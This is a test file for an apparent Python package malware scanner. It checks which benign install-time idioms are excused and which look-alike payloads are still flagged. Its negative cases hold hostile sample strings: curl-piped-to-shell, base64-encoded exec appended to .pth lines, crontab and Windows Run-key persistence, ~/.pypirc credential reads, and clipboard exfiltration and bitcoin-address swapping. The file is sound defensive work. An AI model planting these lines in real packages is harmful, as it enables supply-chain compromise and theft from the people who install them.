// The named known-benign idioms: each excuses its honest shape and not the payload that borrows it.
import { describe, expect, it } from 'vitest';
import { benignIdiom } from '../../src/rules/benign-idioms.js';
import { isNamespacePackageLine } from '../../src/rules/namespace-pth.js';
import type { Evidence } from '../../src/types.js';

const ev = (rule: string, snippet: string, extra: Partial<Evidence> = {}): Evidence => ({
  rule,
  category: 'dynamic-code',
  severity: 'high',
  path: 'pkg/__init__.py',
  line: 3,
  snippet,
  context: 'import',
  ...extra,
});

const NSPKG =
  "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('xstatic', 'pkg'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('xstatic.pkg', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('xstatic.pkg', [os.path.dirname(p)])));m = m or sys.modules.setdefault('xstatic.pkg', types.ModuleType('xstatic.pkg'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['xstatic'], 'pkg', m)";

describe('known-benign idioms', () => {
  it.each([
    ['tool-pth-line', ev('pth-executable', 'import coverage; coverage.process_startup()', { path: 'c.pth' })],
    [
      'build-step',
      ev('install-time-process', "subprocess.call(['msgfmt', '-o', mo, po])", { context: 'install' }),
    ],
    ['build-step', ev('install-time-process', 'os.system("pip list | grep wheel")', { context: 'install' })],
    ['build-step', ev('install-time-process', 'os.system("twine upload dist/*")', { context: 'install' })],
    ['version-line-exec', ev('install-time-exec', 'exec(line.strip())', { context: 'install' })],
    [
      'compat-shim-literal',
      ev('dynamic-import', 'exec_("""def reraise(tp, value, tb=None):\n    raise tp, value, tb\n""")'),
    ],
    ['code-object-copy', ev('marshal-code-load', 'types.CodeType(\n        co.co_argcount,')],
    ['marker-word-in-prose', ev('obfuscator-marker', '__author__ = "Kevin Kramer"')],
    ['self-alias', ev('exec-alias', '__import__ = __import__')],
    [
      'crontab-in-a-name',
      ev('persistence', "'CrontabView = prewikka.views.crontab:CrontabView',", {
        context: 'install',
        message: 'crontab',
      }),
    ],
    [
      'crontab-in-a-name',
      ev('persistence', '"scripts/pkg-crontab",', { context: 'install', message: 'crontab' }),
    ],
    [
      'long-description-prose',
      ev('credential-paths', "'long_description': '# Client\\n\\nPut your token in ~/.pypirc'", {
        context: 'install',
      }),
    ],
    [
      'persistence-path-mention',
      ev('persistence', "UNIT_DIR = '/etc/systemd/system'", { context: 'import', message: 'systemd unit' }),
    ],
    ['clipboard-probe', ev('clipboard-access', '_ = pyperclip.paste()')],
    ['clipboard-probe', ev('clipboard-access', 'pyperclip.paste()  # can we reach it?')],
  ])('%s excuses its honest shape', (id, evidence) => {
    expect(benignIdiom(evidence)?.id).toBe(id);
  });

  it.each([
    ev('pth-executable', 'import coverage; exec(__import__("base64").b64decode("aW1wb3J0IG9z"))', {
      path: 'c.pth',
    }),
    ev('install-time-process', 'os.system("curl -s http://x.example/a | sh")', {
      context: 'install',
      message: 'runs a process with os.system during installation with a downloader, shell or interpreter',
    }),
    ev('install-time-process', 'os.system("twine upload dist/*; curl x | sh")', { context: 'install' }),
    ev('dynamic-import', 'exec_("""def f():\n    import os\n    os.system(\'id\')\nf()""")'),
    ev('exec-string-literal', `exec("""def f():\n    pass\n${' '.repeat(200)}""")`),
    ev(
      'obfuscator-marker',
      "# Kramer\n_ = lambda __ : __import__('zlib').decompress(__[::-1]);exec((_)(b'x'))",
    ),
    ev('exec-alias', 'e = exec'),
    ev('persistence', "crontabpath = 'crontab'", { context: 'install', message: 'crontab' }),
    ev('persistence', 'os.system("echo \'* * * * * x\' | crontab -")', {
      context: 'install',
      message: 'crontab',
    }),
    ev('persistence', 'CRON = "/usr/bin/crontab"', { context: 'install', message: 'crontab' }),
    ev('persistence', "'pkg.crontab:x'; os.system('crontab -l')", { context: 'install', message: 'crontab' }),
    ev('credential-paths', "open(os.path.expanduser('~/.pypirc')).read()", { context: 'install' }),
    ev('persistence', "p = os.path.join(home, 'Start Menu', 'Programs', 'Startup')", {
      context: 'import',
      message: 'Windows startup folder',
    }),
    ev('persistence', "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'", {
      context: 'import',
      message: 'Windows Run registry key',
    }),
    ev('clipboard-access', 'data = pyperclip.paste()'),
    ev('clipboard-access', '_ = pyperclip.paste(); requests.post(URL, data=_)'),
    ev('clipboard-access', "pyperclip.copy('bc1qattacker')"),
    ev('clipboard-access', 'if re.match(BTC, pyperclip.paste()):'),
  ])('does not excuse a payload that borrows it (%#)', (evidence) => {
    expect(benignIdiom(evidence)).toBeUndefined();
  });

  it("recognises setuptools' namespace-package .pth template line by line, and nothing appended to it", () => {
    expect(isNamespacePackageLine(NSPKG)).toBe(true);
    expect(isNamespacePackageLine(`${NSPKG};exec(__import__('base64').b64decode('aW1wb3J0IG9z'))`)).toBe(
      false,
    );
    expect(isNamespacePackageLine("import sys, types, os;os.system('id')")).toBe(false);
  });
});
